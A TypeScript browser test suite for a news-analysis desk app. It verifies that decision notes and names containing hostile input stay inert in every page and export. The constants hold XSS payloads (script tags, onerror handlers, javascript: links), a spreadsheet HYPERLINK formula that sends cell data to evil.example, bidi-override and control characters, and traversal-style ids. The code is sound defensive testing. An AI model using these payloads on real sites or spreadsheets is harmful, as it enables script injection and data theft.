/** What people decide, in words that were chosen to do harm: in every page of the desk and in what is exported, in a browser. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import type { Page as Tab } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Figure, Quotation } from '../src/core/model/annotation.ts'
import { dossierFromJson } from '../src/core/report/from-json.ts'
import { findBrowser } from './helpers/browser.ts'
import { type DeskInBrowser, deskInBrowser, type Edge, pagesOf, ready, storyAt } from './helpers/desk-in-browser.ts'
import { ask } from './helpers/served.ts'

const executable = findBrowser()

/** What of the page's own world is named in functions that run there. */
interface Box {
  readonly left: number
  readonly right: number
  readonly top: number
  readonly bottom: number
}
interface Shown {
  readonly textContent: string | null
  getBoundingClientRect(): Box
  querySelector(selector: string): Shown | null
}

const TAG =
  '"><script>planted=1</script><img class=planted src=x onerror=planted=2><a class=planted href="javascript:planted=3">on</a>'
const FORMULA = '=HYPERLINK("https://evil.example/"&A1)'
const TURNED = '\u202eturned round\u2066 אבג'
const CONTROLS = '\u0007\u001b[31mred\u009b2J'
const NAME = `Ida \u202eMoor אבג <img class=planted src=x onerror=planted=4>`
const END = 'its very end'
const NOTE = `${FORMULA} ${TAG} ${TURNED} ${CONTROLS} ${'w'.repeat(4000)} ${END}`
const WORDING = `${FORMULA} ${TAG} ${TURNED} ${'q'.repeat(300)} ${END}`
/** Written so in a page that must not be turned round: `straightened` in web/src/api/client.ts. */
const straight = (text: string): string => text.replace(/[\u202a-\u202e\u2066-\u2069]/g, '\u200b')

describe.runIf(executable !== undefined)('decisions that mean harm', () => {
  const folder = mkdtempSync(join(tmpdir(), 'stemma-decided-'))
  let here: DeskInBrowser
  let story = ''
  let edge: Edge
  let read: { article: string; figure: Figure; quotation: Quotation }

  beforeAll(async () => {
    here = await deskInBrowser(executable!, { add: ['samples/weir'], options: ['--no-fetch'] })
    const { id, edges } = await storyAt(here.desk.address)
    story = id
    edge = edges.find((one) => one.kind === 'rewrite')!
    const dossier = dossierFromJson(await (await exported('json')).text())
    const [worded, judged] = dossier.ledger.filter((row) => row.cells.length > 1 && row.partFigures.length === 0)
    const used = new Set([...worded!.figures, ...judged!.figures])
    const article = dossier.articles.find(
      (one) => one.quotations.length > 0 && one.figures.some((figure) => !used.has(`${one.id}:${figure.id}`)),
    )!
    const figure = article.figures.find((one) => !used.has(`${article.id}:${one.id}`) && one.part === undefined)!
    read = { article: article.id, figure, quotation: article.quotations[0]! }
    const anchor = ({ start, end }: { start: number; end: number }) => ({
      ...{ start, end, words: article.text.slice(start, end) },
    })
    const figureTarget = { articles: [article.id], item: figure.id, anchor: anchor(figure) }
    const quoted = { articles: [article.id], item: read.quotation.id, anchor: anchor(read.quotation) }
    const facts = { counted: WORDING, event: TAG, place: WORDING, period: FORMULA, unit: TAG, speaker: WORDING }
    for (const body of [
      { kind: 'relation', action: 'confirm', target: { articles: [edge.source, edge.derived] } },
      { kind: 'figure', action: 'correct', target: figureTarget, correction: facts },
      { kind: 'quotation', action: 'correct', target: quoted, correction: { speaker: WORDING } },
      { kind: 'row', action: 'correct', target: { story, item: worded!.id }, correction: { question: WORDING } },
      { kind: 'verdict', action: 'correct', target: { story, item: judged!.id }, correction: { verdict: 'differ' } },
      { kind: 'story', action: 'correct', target: { story }, correction: { title: WORDING } },
      { kind: 'note', action: 'note', target: { articles: [article.id], anchor: { ...anchor(figure) } } },
    ])
      expect([body.kind, (await post('decisions', { ...body, note: NOTE, who: NAME })).status]).toEqual([
        body.kind,
        201,
      ])
    const other = { undoneAt: null, undoneBy: null, at: '2031-03-11T00:00:00.000Z', who: NAME, note: NOTE }
    const lines = [
      { id: TAG.slice(0, 90), target: { articles: ['../..//evil.example'], item: TAG, about: WORDING } },
      { id: '../x?y#z', target: { articles: ['javascript:planted=5', '//evil.example'], about: WORDING } },
      { id: 'c', target: { articles: [edge.source], story: `//evil.example/${TAG}`.slice(0, 400) } },
      { id: 'd', target: { articles: [edge.source], anchor: { start: 0, end: 9, words: NOTE } } },
    ].map((one, i) => ({ ...one, kind: ['figure', 'relation', 'story', 'figure'][i], action: 'confirm', ...other }))
    const answer = await ask(`${here.desk.address}api/v1/decisions/import`, {
      ...{ method: 'POST', headers: { 'content-type': 'text/plain' } },
      body: lines.map((one) => JSON.stringify({ correction: null, ...one })).join('\n'),
    })
    expect(await answer.json()).toEqual({ kept: lines.length, known: 0 })
  }, 120_000)
  afterAll(async () => {
    await here.close()
    rmSync(folder, { recursive: true })
  })

  const post = (path: string, body: object): Promise<Response> =>
    ask(`${here.desk.address}api/v1/${path}`, {
      ...{ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) },
    })
  const exported = async (format: string): Promise<Response> =>
    ask(`${here.desk.address}api/v1/stories/${story}/export?format=${format}`)

  /** Opens a page, and whatever it folds away. @returns what it did that no words of a decision may make it do */
  async function harm(tab: Tab, address: string, own: string): Promise<object> {
    const seen: string[] = []
    tab.on('dialog', (dialog) => void dialog.dismiss().then(() => seen.push('a dialog')))
    tab.on('console', (message) => void (message.type() === 'error' && seen.push(message.text())))
    tab.on('pageerror', (error) => void seen.push(error.message))
    tab.on('request', (request) => {
      if (!request.url().startsWith(own) && !request.url().startsWith('data:')) seen.push(request.url())
    })
    await tab.goto(address)
    await ready(tab)
    for (const details of await tab.locator('details > summary').all())
      if (await details.isVisible()) await details.click()
    return {
      seen,
      planted: [await tab.evaluate('globalThis.planted'), await tab.locator('.planted').count()],
      links: (await tab.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''))).filter(
        (href) => !/^(?:\/(?!\/)|#|https?:)/.test(href),
      ),
      width: await tab.evaluate('document.documentElement.scrollWidth'),
    }
  }
  const harmless = (width: number): object => ({ seen: [], planted: [undefined, 0], links: [], width })

  it.each([390, 1280])(
    'run nothing, load nothing and leave every page in its frame, %d wide',
    async (width) => {
      const { derived, source } = edge
      const pages = {
        ...(await pagesOf(here.desk.address, story)),
        ...{ own: `/articles/${read.article}#${read.figure.id}`, related: `/compare/${source}/${derived}` },
      }
      for (const [name, path] of Object.entries(pages)) {
        const tab = await here.open('/no/such/page', { viewport: { width, height: 800 } })
        const found = await harm(tab, here.desk.address + path.slice(1), here.desk.address)
        expect([name, found]).toEqual([name, harmless(width)])
        await tab.context().close()
      }
    },
    240_000,
  )

  it('are shown whole where they were decided, in the list of all, and in the story’s', async () => {
    const shown = straight(NOTE)
    for (const [path, least] of [
      ['/review', 11],
      [`/stories/${story}`, 5],
      [`/articles/${read.article}#${read.figure.id}`, 2],
      [`/compare/${edge.source}/${edge.derived}`, 1],
    ] as const) {
      const tab = await here.open(path)
      await ready(tab)
      await tab.locator('.decision').first().waitFor({ state: 'attached' })
      const notes = await tab.locator('.decision .note').allTextContents()
      expect([path, notes.filter((one) => one === shown).length >= least, new Set(notes).size]).toEqual([path, true, 1])
      await tab.context().close()
    }
    const tab = await here.open(`/stories/${story}`)
    await tab.locator('.ledger').waitFor()
    expect(await tab.locator('h1').first().textContent()).toContain(straight(WORDING))
    expect(await tab.locator('.ledger th', { hasText: END }).first().textContent()).toContain(straight(WORDING))
    await tab.context().close()
  }, 120_000)

  it('of a name turn nothing round beside it', async () => {
    const tab = await here.open('/review')
    await tab.locator('.decision').first().waitFor()
    const order = await tab.locator('.decision > p:first-of-type').evaluateAll((all: Shown[]) =>
      all.map((one) => {
        const [said, when] = [one.querySelector('strong')!, one.querySelector('time')!].map((part) =>
          part.getBoundingClientRect(),
        )
        const name = one.querySelector('bdi')!.getBoundingClientRect()
        return name.left >= said!.right - 1 && (when!.top >= name.bottom - 2 || when!.left >= name.right - 1)
      }),
    )
    expect(order.length).toBeGreaterThan(10)
    expect(new Set(order)).toEqual(new Set([true]))
    await tab.context().close()
  })

  it('lead to pages of the desk from the list of all, whatever ids they name', async () => {
    const tab = await here.open('/review')
    const links = tab.locator('.decided .about a')
    await links.first().waitFor()
    for (let at = (await links.count()) - 1; at >= 0; at--) {
      await tab.goto(`${here.desk.address}review`)
      await links.nth(at).click()
      await tab.waitForURL((url) => url.pathname !== '/review')
      await tab.locator('main h1, main [role=alert]').first().waitFor()
      expect(new URL(tab.url()).origin).toBe(new URL(here.desk.address).origin)
      expect(new URL(tab.url()).pathname).toMatch(/^\/(?:articles|compare|stories)\/[^/]+(?:\/[^/]+)?$/)
      expect(await tab.evaluate('globalThis.planted')).toBeUndefined()
    }
    await tab.context().close()
  }, 120_000)

  it.each(['html', 'brief'])(
    'run nothing in the page that is saved: %s',
    async (format) => {
      const file = join(folder, `${format}.html`)
      writeFileSync(file, await (await exported(format)).text())
      const tab = await (await here.browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage()
      const address = pathToFileURL(file).href
      const found = (await harm(tab, address, address)) as { links: readonly string[] }
      expect({ ...found, links: found.links.filter((one) => !one.startsWith('#')) }).toEqual(harmless(1280))
      const text = (await tab.locator('body').textContent()) ?? ''
      // The brief of two sheets says with … that there is more of it.
      if (format === 'html') expect(text.split('w'.repeat(4000)).length).toBeGreaterThan(5)
      else expect(text).toMatch(/Noted by Ida .*…/)
      await tab.context().close()
    },
    120_000,
  )

  it('become no formula and lose nothing in the tables', async () => {
    const sheets = unzipSync(new Uint8Array(await (await exported('xlsx')).arrayBuffer()))
    const xml = Object.entries(sheets).map(([, bytes]) => new TextDecoder().decode(bytes))
    expect(xml.join('')).toContain('w'.repeat(4000))
    expect(xml.filter((one) => /<f[ >]/.test(one))).toEqual([])
    for (const address of [`stories/${story}/export?format=csv`, 'figures/export?preset=ucdp-style']) {
      const text = await (await ask(`${here.desk.address}api/v1/${address}`)).text()
      const cells = (parse(text, { relax_column_count: true, bom: true }) as string[][]).flat()
      expect(cells.some((one) => one.includes('HYPERLINK'))).toBe(true)
      expect(cells.filter((one) => /^[\s\u200b-\u200f\u202a-\u202e]*[=+@\t\r]/.test(one))).toEqual([])
    }
    const csv = await (await exported('csv')).text()
    expect(csv).toContain('w'.repeat(4000))
    const markdown = await (await exported('markdown')).text()
    expect(markdown).toContain('w'.repeat(4000))
    expect(markdown).not.toMatch(/(?<!\\)<(?:script|img|a)\b/)
    const lines = (await (await ask(`${here.desk.address}api/v1/decisions/export`)).text()).trim().split('\n')
    expect(lines.map((one) => (JSON.parse(one) as { note: string }).note)).toEqual(lines.map(() => NOTE))
  }, 60_000)

  it('are undone by their buttons, whatever their ids', async () => {
    const tab = await here.open('/review')
    const button = tab.getByRole('button', { name: 'Undo this decision' })
    await button.first().waitFor()
    const all = await button.count()
    expect(all).toBe(11)
    for (let left = all - 1; left >= 0; left--) {
      await button.first().click()
      await expect.poll(() => button.count()).toBe(left)
    }
    await tab.context().close()
  }, 120_000)
})
